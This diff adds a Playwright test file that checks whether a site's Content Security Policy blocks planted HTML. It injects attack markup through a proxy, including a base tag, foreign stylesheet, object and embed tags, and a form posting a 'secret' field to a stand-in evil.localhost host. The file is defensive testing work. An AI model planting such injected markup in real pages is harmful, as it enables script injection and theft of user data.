@@ -1,0 +1,144 @@
+import { createHash } from "node:crypto";
+import type { Page } from "@playwright/test";
+import { localesByEdition, type EditionId } from "@portico/shared-sdk";
+import { expect, test as base } from "../support/exchangeFixture.ts";
+import { createFaultProxy, type FaultProxy } from "../support/faultProxy.ts";
+import { answerWith, changeAnswer } from "../support/faultResponders.ts";
+import { plantedMarkup } from "./plantedMarkup.ts";
+
+const homePage = "/en/";
+
+/** Says which planted script ran: its name stands in the address. */
+const markScript =
+  "(window.__pwn = window.__pwn || []).push(decodeURIComponent(document.currentScript.src.split('?')[1]));";
+const markIntegrity = `sha384-${createHash("sha384").update(markScript).digest("base64")}`;
+
+const test = base.extend<{ faultProxy: FaultProxy }>({
+  faultProxy: async ({ exchange }, use) => {
+    const proxy = await createFaultProxy(exchange.port);
+    proxy.respond((path) => path.startsWith("/mark.js"), answerWith(200, "text/javascript", markScript));
+    await use(proxy);
+    proxy.close();
+  },
+});
+
+/** The markup of every attack, each telling its own name when it runs. */
+function writeMarkup(port: number): string {
+  const filled = plantedMarkup.map(({ name, html }) =>
+    html
+      .replace("{mark}", `window.__pwn=(window.__pwn||[]).concat('${name}')`)
+      .replace("parent.window.__pwn=(window.__pwn", "parent.__pwn=(parent.__pwn")
+      .replace("{evil}", `http://evil.localhost:${port}`)
+      .replace("{own}", `http://localhost:${port}`)
+      .replace("{name}", encodeURIComponent(name))
+      .replace("{integrity}", markIntegrity),
+  );
+  return `<div id="planted">${filled.join("")}</div>`;
+}
+
+const plantInto = (port: number, keepsPolicy: boolean) =>
+  changeAnswer(({ headers, body }) => {
+    const {
+      "content-security-policy": policy,
+      "integrity-policy": integrityPolicy,
+      ...others
+    } = headers as Record<string, string>;
+    const kept = {
+      ...others,
+      "content-security-policy": policy ?? "",
+      "integrity-policy": integrityPolicy ?? "",
+    };
+    return {
+      headers: keepsPolicy ? kept : others,
+      body: Buffer.from(body.toString().replace("</main>", `</main>${writeMarkup(port)}`)),
+    };
+  });
+
+async function runAttacks(page: Page, proxy: FaultProxy, keepsPolicy: boolean): Promise<readonly string[]> {
+  proxy.respond((path) => path === homePage, plantInto(proxy.port, keepsPolicy));
+  await page.goto(`http://localhost:${proxy.port}${homePage}`);
+  await page.locator('[data-remote="header"][data-state="mounted"]').waitFor();
+  await page.locator("#planted-link").dispatchEvent("click");
+  const names = await page.evaluate(() => (window as unknown as { __pwn?: readonly string[] }).__pwn ?? []);
+  return [...new Set(names)].sort();
+}
+
+test.describe("markup that somebody planted", () => {
+  test.use({ expectedProblems: /./ });
+
+  test("runs where no policy stands in its way", async ({ page, faultProxy }) => {
+    expect(await runAttacks(page, faultProxy, false)).toEqual(plantedMarkup.map(({ name }) => name).sort());
+  });
+
+  test(`none of ${plantedMarkup.length} kinds runs in a page`, async ({ page, faultProxy }) => {
+    expect(await runAttacks(page, faultProxy, true)).toEqual([]);
+  });
+
+  test("a base element, a foreign form, a foreign sheet and a plugin lead nowhere", async ({
+    page,
+    faultProxy,
+  }) => {
+    const evil = `http://evil.localhost:${faultProxy.port}`;
+    const planted =
+      `<base href="${evil}/"><link rel="stylesheet" href="${evil}/evil.css">` +
+      `<object data="${evil}/evil.html"></object><embed src="${evil}/evil.html">` +
+      `<form id="planted-form" action="${evil}/take" method="post"><input name="secret" value="1"></form>`;
+    faultProxy.respond(
+      (path) => path === homePage,
+      changeAnswer(({ body }) => ({
+        body: Buffer.from(body.toString().replace("<main", `${planted}<main`)),
+      })),
+    );
+    await page.goto(`http://localhost:${faultProxy.port}${homePage}`);
+    await page.locator('[data-remote="header"][data-state="mounted"]').waitFor();
+    await page.locator("#planted-form").evaluate(
+      (form: HTMLFormElement) =>
+        new Promise<void>((resolve) => {
+          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+            if (effectiveDirective === "form-action") resolve();
+          });
+          setTimeout(() => form.submit());
+        }),
+    );
+    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
+    expect(faultProxy.seen.filter(({ host }) => host.startsWith("evil."))).toEqual([]);
+  });
+});
+
+/** The pages that a build writes, in editions that differ in direction, alphabet and head. */
+const normalPages: readonly (readonly [EditionId, string])[] = (
+  ["global", "turkey", "uae"] satisfies readonly EditionId[]
+).flatMap((edition) =>
+  ["/", "/sem/", "/trading-contest/", "/trading-contest/winter-trading-cup/"].map(
+    (path) => [edition, `/${localesByEdition[edition].slice(-1)[0] ?? "en"}${path}`] as const,
+  ),
+);
+
+test("no normal page violates its own policy, and every script and sheet has one hash", async ({
+  page,
+  exchange,
+}) => {
+  test.slow();
+  await page.addInitScript(() => {
+    const violations: string[] = [];
+    Object.assign(window, { violations });
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+      violations.push(`${effectiveDirective} ${blockedURI}`),
+    );
+  });
+  for (const [edition, path] of normalPages) {
+    await page.goto(exchange.addressOf(edition, path));
+    await page.locator('[data-remote="footer"][data-state="mounted"]').waitFor();
+    const found = await page.evaluate(() => ({
+      violations: (window as unknown as { readonly violations: readonly string[] }).violations,
+      unpinned: [
+        ...document.querySelectorAll<HTMLScriptElement | HTMLLinkElement>(
+          "script[src], link[rel=stylesheet]",
+        ),
+      ]
+        .filter(({ integrity }) => !/^sha384-[A-Za-z0-9+/]{64}$/.test(integrity))
+        .map((element) => element.outerHTML),
+    }));
+    expect(found, path).toEqual({ violations: [], unpinned: [] });
+  }
+});
